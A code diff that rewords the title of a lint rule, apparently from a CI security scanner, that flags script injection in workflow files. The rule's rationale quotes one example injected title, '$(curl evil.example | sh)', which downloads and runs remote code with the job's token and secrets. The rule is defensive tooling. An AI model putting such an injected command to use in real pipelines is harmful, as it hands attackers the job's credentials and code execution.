@@ -44,7 +44,7 @@ const judgeFlow = (placed: PlacedStep, flow: Flow, followed = false): Finding | 
 
 export default defineRule({
   id: 'ci/workflow-script-injection',
-  title: 'Text that strangers write reaches scripts through variables only',
+  title: 'Untrusted text reaches scripts only through variables',
   severity: 'high',
   rationale: 'An expression is put into the script before the shell starts. A title such as $(curl evil.example | sh) then runs with the token and the secrets of the job.',
   remediation: 'Set the value as an environment variable of the step (env: TITLE: ${{ … }}) and write "$TITLE" in the script.',
